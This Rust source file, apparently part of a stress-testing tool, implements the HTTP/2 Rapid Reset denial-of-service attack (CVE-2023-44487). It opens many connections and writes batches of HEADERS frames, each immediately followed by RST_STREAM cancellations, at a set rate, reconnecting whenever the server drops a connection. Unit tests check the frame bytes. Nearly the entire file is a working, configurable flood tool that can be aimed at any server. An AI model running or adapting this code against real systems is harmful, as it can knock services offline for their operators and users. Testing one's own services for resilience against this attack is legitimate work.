//! HTTP/2 streams that are begun and reset at once (CVE-2023-44487), frame by frame: no library would send that.

use std::io::{self, IoSlice};
use std::net::SocketAddrV4;
use std::sync::Arc;

use rustls::ClientConfig;

use super::TURN_NS;
use crate::channel::{Buffers, Channel};
use crate::clock::{SECOND_NS, now_ns};
use crate::net;
use crate::poller::{Interest, Poller, Ready};

/// Streams that are begun and reset with one write.
const BATCH: u32 = 32;

/// The flood.
#[derive(Clone, Debug)]
pub struct Resets {
    /// The server.
    pub target: SocketAddrV4,
    /// TLS, in which h2 is chosen; without it, HTTP/2 is spoken by prior knowledge.
    pub tls: Option<Arc<ClientConfig>>,
    /// The tenant's key, sent as x-api-key.
    pub key: Option<String>,
    /// Connections at any time; one that the server closes is followed by the next.
    pub connections: usize,
    /// Streams a second over all connections.
    pub rate: f64,
}

/// What the flood has done.
#[derive(Clone, Copy, Debug, Default)]
pub struct Done {
    /// Streams that were begun and reset.
    pub streams: u64,
    /// Connections that the server closed.
    pub closed: u64,
}

impl Resets {
    /// Goes on as long as `go_on` says.
    ///
    /// # Errors
    /// Connections cannot be made or waited for; that the server closes them is no error.
    pub fn run(&self, mut go_on: impl FnMut(&Done) -> bool) -> io::Result<Done> {
        let mut run = Run {
            flood: self,
            poller: Poller::new()?,
            block: field_block(
                &self.target.to_string(),
                self.tls.is_some(),
                self.key.as_deref(),
            ),
            attackers: (0..self.connections).map(|_| None).collect(),
            buffers: Buffers::new(64 * 1024),
            started_ns: now_ns(),
            batches: 0,
            done: Done::default(),
        };
        let mut ready = Vec::new();
        while go_on(&run.done) {
            run.begin_due(now_ns())?;
            let timeout_ns = run.due_ns().saturating_sub(now_ns()).min(TURN_NS);
            run.poller.wait(Some(timeout_ns), &mut ready)?;
            for event in &ready {
                run.turn(*event)?;
            }
        }
        Ok(run.done)
    }
}

struct Run<'a> {
    flood: &'a Resets,
    poller: Poller,
    block: Vec<u8>,
    attackers: Vec<Option<Attacker>>,
    buffers: Buffers,
    started_ns: u64,
    batches: u64,
    done: Done,
}

struct Attacker {
    channel: Channel,
    connected: bool,
    next_stream: u32,
    unsent: Vec<u8>,
}

impl Run<'_> {
    fn due_ns(&self) -> u64 {
        let batches_per_second = self.flood.rate / f64::from(BATCH);
        self.started_ns + (self.batches as f64 * SECOND_NS as f64 / batches_per_second) as u64
    }

    /// Each batch that is due goes to the next connection; where that has no room or is none yet, the batch is left out.
    fn begin_due(&mut self, now: u64) -> io::Result<()> {
        while self.due_ns() <= now {
            let slot = (self.batches % self.attackers.len() as u64) as usize;
            self.batches += 1;
            match &mut self.attackers[slot] {
                None => self.attackers[slot] = Some(self.connect(slot)?),
                Some(attacker) if attacker.connected && attacker.unsent.is_empty() => {
                    attacker.put_batch(&self.block);
                    self.done.streams += u64::from(BATCH);
                    self.send(slot)?;
                }
                Some(_) => {}
            }
        }
        Ok(())
    }

    fn connect(&self, slot: usize) -> io::Result<Attacker> {
        let target = self.flood.target;
        let stream = net::begin_connect(target, net::source_for(target, slot))?;
        self.poller.add(&stream, slot as u64, Interest::Write)?;
        Ok(Attacker {
            channel: Channel::to_server(stream, self.flood.tls.as_ref())?,
            connected: false,
            next_stream: 1,
            unsent: preface(),
        })
    }

    fn turn(&mut self, ready: Ready) -> io::Result<()> {
        let slot = ready.token as usize;
        let Some(attacker) = &mut self.attackers[slot] else {
            return Ok(());
        };
        attacker.connected = true;
        if ready.read {
            // What the server says is of no interest, only that it has closed.
            match attacker.channel.read(&mut self.buffers) {
                Ok([]) => return self.close(slot),
                Ok(_) => {}
                Err(error) if net::would_block(&error) => {}
                Err(_) => return self.close(slot),
            }
        }
        self.send(slot)
    }

    fn send(&mut self, slot: usize) -> io::Result<()> {
        let Some(attacker) = &mut self.attackers[slot] else {
            return Ok(());
        };
        match attacker.send() {
            Ok(waits) => {
                let interest = Interest::of(true, waits);
                self.poller
                    .modify(attacker.channel.stream(), slot as u64, interest)
            }
            Err(_) => self.close(slot),
        }
    }

    fn close(&mut self, slot: usize) -> io::Result<()> {
        self.attackers[slot] = None;
        self.done.closed += 1;
        Ok(())
    }
}

impl Attacker {
    fn put_batch(&mut self, block: &[u8]) {
        for _ in 0..BATCH {
            put_frame(
                &mut self.unsent,
                HEADERS,
                END_HEADERS,
                self.next_stream,
                block,
            );
            put_frame(&mut self.unsent, RST_STREAM, 0, self.next_stream, &CANCEL);
            self.next_stream += 2;
        }
    }

    /// Returns whether something waits for room.
    fn send(&mut self) -> io::Result<bool> {
        if !self.unsent.is_empty() {
            match self.channel.write(&[IoSlice::new(&self.unsent)]) {
                Ok(written) => drop(self.unsent.drain(..written)),
                Err(error) if net::would_block(&error) => {}
                Err(error) => return Err(error),
            }
        }
        self.channel.flush()?;
        Ok(!self.unsent.is_empty() || self.channel.wants_write())
    }
}

// RFC 9113, 6.2 to 6.5.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    put_frame(&mut bytes, SETTINGS, 0, 0, &[]);
    bytes
}

fn put_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The head of a request whose body does not come, in HPACK without compression (RFC 7541, 6.1 and 6.2.2).
fn field_block(authority: &str, tls: bool, key: Option<&str>) -> Vec<u8> {
    const METHOD_POST: u8 = 0x83;
    const SCHEME_HTTP: u8 = 0x86;
    const SCHEME_HTTPS: u8 = 0x87;
    const PATH: &[u8] = &[0x04];
    const AUTHORITY: &[u8] = &[0x01];
    const CONTENT_TYPE: &[u8] = &[0x0f, 0x10];
    const CONTENT_LENGTH: &[u8] = &[0x0f, 0x0d];
    let mut block = vec![METHOD_POST, if tls { SCHEME_HTTPS } else { SCHEME_HTTP }];
    let mut put = |name: &[u8], value: &str| {
        block.extend_from_slice(name);
        put_string(&mut block, value);
    };
    put(PATH, "/v1/responses");
    put(AUTHORITY, authority);
    put(CONTENT_TYPE, "application/json");
    put(CONTENT_LENGTH, "1000");
    if let Some(key) = key {
        block.push(0x00);
        put_string(&mut block, "x-api-key");
        put_string(&mut block, key);
    }
    block
}

/// A string literal (RFC 7541, 5.2); longer ones have another form.
fn put_string(out: &mut Vec<u8>, text: &str) {
    assert!(text.len() < 127, "{} bytes are too many", text.len());
    out.push(text.len() as u8);
    out.extend_from_slice(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_a_head_of_nine_bytes() {
        let mut out = Vec::new();
        put_frame(&mut out, RST_STREAM, 0, 5, &CANCEL);
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn each_stream_of_a_batch_is_reset() {
        let block = field_block("a", true, Some("key"));
        assert_eq!(block[..16], *b"\x83\x87\x04\x0d/v1/response");
        assert!(block.ends_with(b"\x00\x09x-api-key\x03key"));
        let mut out = Vec::new();
        for stream in [1, 3] {
            put_frame(&mut out, HEADERS, END_HEADERS, stream, &block);
            put_frame(&mut out, RST_STREAM, 0, stream, &CANCEL);
        }
        assert_eq!(out.len(), 2 * (2 * 9 + block.len() + CANCEL.len()));
    }
}
